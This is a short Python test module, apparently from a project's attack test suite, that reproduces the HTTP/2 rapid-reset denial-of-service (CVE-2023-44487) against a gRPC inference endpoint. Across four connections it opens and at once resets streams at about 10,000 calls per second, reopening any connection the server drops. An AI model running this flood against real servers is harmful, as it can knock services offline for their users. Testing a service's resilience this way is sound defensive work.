"""Thousands of calls that are reset right after they begin (CVE-2023-44487)."""

from __future__ import annotations

import asyncio
import time

from tests.attacks.case import Target
from tests.attacks.http2 import Connection

TITLE = "calls that are reset as soon as they are begun"
CONNECTIONS = 4
BURST = 50
PAUSE_S = 0.02
"""Gives 10,000 calls per second."""
GENERATE = "/veneer.v1.InferenceService/GenerateStream"


async def attack(target: Target) -> list[str]:
    """The server may drop such connections; a new one is opened at once."""

    async def one(ends: float) -> int:
        begun = 0
        while time.monotonic() < ends:
            async with await Connection.open(target.grpc) as connection:
                while time.monotonic() < ends and not connection.lost.is_set():
                    for _ in range(BURST):
                        connection.reset(connection.call(GENERATE))
                    begun += BURST
                    await asyncio.sleep(PAUSE_S)
        return begun

    ends = time.monotonic() + target.seconds
    begun = sum(await asyncio.gather(*(one(ends) for _ in range(CONNECTIONS))))
    return [] if begun > 1000 else [f"only {begun} calls were begun"]
